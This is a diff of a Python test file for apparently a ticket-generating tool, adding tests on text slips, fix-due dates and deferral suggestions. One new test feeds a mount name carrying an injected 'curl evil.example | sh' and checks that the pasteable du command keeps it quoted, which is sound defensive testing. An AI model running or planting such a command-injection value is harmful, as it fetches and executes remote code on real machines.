@@ -185,19 +185,18 @@ def everything() -> list[tuple[str, str]]:
 
 
 ODD = re.compile(
-    r"\bNone\b(?! of)|\bnan\b|[{}%]\w*\}|\ue000|Undefined| [.,;:]|\.\.|  |: *\n\n|\(\)|:\s*$|\b(\w+) \1\b|\bshould\b|0 (?:GB|MB) of 0",
-    re.MULTILINE,
+    r"\bNone\b(?! of)|\bnan\b|\ue000|Undefined| [.,;:]|\.\.|  |\(\)|\b(\w+) \1\b|\bshould\b"
+    r"|: *\n\n(?!\* )|: *\n(?!\n)|:\s*\Z",  # a label without its value, a list without its items
 )
 
 
 def test_no_text_has_a_hole_or_a_slip_in_it():
     """Whatever is known or not: no None, no doubled word, no stray space, no empty value, no "should"."""
-    slips = []
-    for name, text in everything():
-        for found in ODD.finditer(text):
-            context = text[max(found.start() - 40, 0) : found.end() + 20]
-            if not re.search(r":\n\n\* ", context + text[found.end() + 20 :][:4]):
-                slips.append((name, context))
+    slips = [
+        (name, text[max(found.start() - 40, 0) : found.end() + 20])
+        for name, text in everything()
+        for found in ODD.finditer(text)
+    ]
     assert slips == []
 
 
@@ -275,7 +274,7 @@ def test_every_answer_a_ticket_teaches_is_understood():
                 acts = told_by(Act(id="7", kind="reply", by="Ann", at=datetime.fromtimestamp(NOW, UTC), text=line))
                 assert len(acts) == 1, line
                 found.append((acts[0].kind, acts[0].option))
-        assert {kind for kind, _ in found} >= {"defer", "wont_fix", "confirm"}, name
+        assert {kind for kind, _ in found} >= {"wont_fix", "confirm"}, name
         numbers = [option for kind, option in found if kind == "accept_window"]
         assert numbers == list(range(1, len(ticket(facts).windows) + 1))
 
@@ -352,6 +351,27 @@ def test_a_rule_that_lacks_its_own_words_borrows_those_of_its_remedy():
     facts = msgspec.structs.replace(CASES["generic"], remedy="disk_space")
     assert "; we suggest extending it on " in ticket(facts).title
     assert "growpart" in text_of(ticket(facts))
+
+
+def test_putting_off_is_never_offered_beyond_the_crossing():
+    """The date a ticket gives as an example of putting off is before the trouble; with hours left it gives none."""
+    assert "foretell: defer 2026-11-25" in text_of(ticket(FILLING))
+    assert "foretell: defer" not in text_of(ticket(CASES["disk_space_runaway"]))
+
+
+def test_the_fix_is_due_in_time_to_prevent_it():
+    """The fix is due before the earliest crossing, whatever the service level allows, and not before a window proposed."""
+    for facts in CASES.values():
+        made = ticket(facts)
+        if made.crossing is not None and made.crossing.timestamp() > NOW and facts.rule != "os_support_end":
+            assert made.service_times.fix_due < made.crossing
+        assert not made.windows or made.windows[0].end <= made.service_times.fix_due
+
+
+def test_a_command_to_paste_holds_a_hostile_name_fast():
+    """A mount that is named like a command stays one argument of the command an engineer may paste."""
+    facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "/x; curl evil.example | sh"})
+    assert "du -xh --max-depth=2 '/x; curl evil.example | sh' | sort" in text_of(ticket(facts))
 
 
 def test_what_could_not_be_seen_is_said():
